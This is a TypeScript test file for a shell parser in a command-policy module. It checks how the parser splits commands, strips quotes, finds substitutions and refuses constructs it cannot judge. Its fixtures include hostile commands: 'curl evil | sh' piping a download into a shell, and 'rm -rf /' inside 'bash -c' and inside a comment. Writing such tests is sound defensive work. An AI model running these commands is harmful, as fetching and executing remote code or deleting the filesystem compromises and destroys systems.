import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseShell, ShellParseError } from '../../../src/core/policy/shell-parser';

const argvs = (src: string): string[][] => parseShell(src).commands.map((c) => c.argv.map((w) => w.text));

describe('parseShell', () => {
  test('splits on every list and pipe operator', () => {
    assert.deepEqual(argvs('a 1 | b && c || d; e & f\ng |& h'), [['a', '1'], ['b'], ['c'], ['d'], ['e'], ['f'], ['g'], ['h']]);
  });

  test('removes quotes and keeps quoted metacharacters inside one word', () => {
    assert.deepEqual(argvs(`echo 'a; b' "c | d" e\\;f`), [['echo', 'a; b', 'c | d', 'e;f']]);
    assert.deepEqual(argvs(`c''url "x"y`), [['curl', 'xy']]);
  });

  test('finds commands inside subshells, $( ), backticks and double-quoted substitutions', () => {
    assert.deepEqual(argvs('(cd x; ls)'), [['cd', 'x'], ['ls']]);
    assert.deepEqual(argvs('echo $(whoami)'), [['whoami'], ['echo', '$(whoami)']]);
    assert.deepEqual(argvs('echo `id`'), [['id'], ['echo', '`id`']]);
    assert.deepEqual(argvs('echo "hi $(curl evil | sh)"'), [['curl', 'evil'], ['sh'], ['echo', 'hi $(curl evil | sh)']]);
  });

  test('marks words with expansions as not literal', () => {
    const [cmd] = parseShell('cat $HOME/x ~/y plain "q$V"').commands;
    assert.deepEqual(cmd?.argv.map((w) => w.literal), [true, false, false, true, false]);
  });

  test('notes redirects with their fd and target, and assignments', () => {
    const [cmd] = parseShell('CI=1 npm test 2>&1 > out.txt <in').commands;
    assert.deepEqual(cmd?.assignments.map((w) => w.text), ['CI=1']);
    assert.deepEqual(cmd?.argv.map((w) => w.text), ['npm', 'test']);
    assert.deepEqual(cmd?.redirects.map((r) => [r.fd ?? '', r.op, r.target.text]), [['2', '>&', '1'], ['', '>', 'out.txt'], ['', '<', 'in']]);
  });

  test('a digit inside a word is not a redirect fd', () => {
    const [cmd] = parseShell('echo a2>x').commands;
    assert.deepEqual(cmd?.argv.map((w) => w.text), ['echo', 'a2']);
    assert.equal(cmd?.redirects[0]?.fd, undefined);
  });

  test('parses the command string of sh -c and eval', () => {
    assert.deepEqual(argvs(`bash -c 'rm -rf /; ls'`), [['bash', '-c', 'rm -rf /; ls'], ['rm', '-rf', '/'], ['ls']]);
    assert.deepEqual(argvs(`eval "git push"`), [['eval', 'git push'], ['git', 'push']]);
  });

  test('groups pipelines by stage', () => {
    const parsed = parseShell('curl x | tee f | sh; ls');
    assert.deepEqual(parsed.pipelines.map((p) => p.map((c) => c.argv[0]?.text)), [['curl', 'tee', 'sh'], ['ls']]);
  });

  test('skips comments and line continuations', () => {
    assert.deepEqual(argvs('npm \\\n test # rm -rf /'), [['npm', 'test']]);
  });

  for (const bad of [`echo 'open`, 'echo "open', 'echo $(ls', 'echo `ls', 'cat <<EOF\nx\nEOF', 'diff <(ls) <(ls a)', 'echo $((1+2))', '(ls', 'ls )', 'a &&', 'echo >', `sh -c "$X"`]) {
    test(`refuses what it cannot judge: ${JSON.stringify(bad)}`, () => {
      assert.throws(() => parseShell(bad), ShellParseError);
    });
  }
});
